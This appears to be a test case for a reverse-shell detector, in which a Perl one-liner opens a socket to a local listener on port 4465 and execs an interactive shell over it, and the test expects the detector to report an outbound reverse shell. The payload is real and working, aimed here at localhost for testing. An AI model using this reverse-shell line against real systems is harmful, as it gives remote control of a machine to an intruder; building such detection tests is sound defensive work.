# R12e: perl becomes a shell
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4465

#: prepare
. lib/peers.sh
peer 4465
#: act
. lib/peers.sh
act
perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);
connect(S, sockaddr_in(4465, inet_aton("127.0.0.1"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh", "-i");' \
  < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell ../exe /usr/bin/dash && at $shell 0 socket:*'
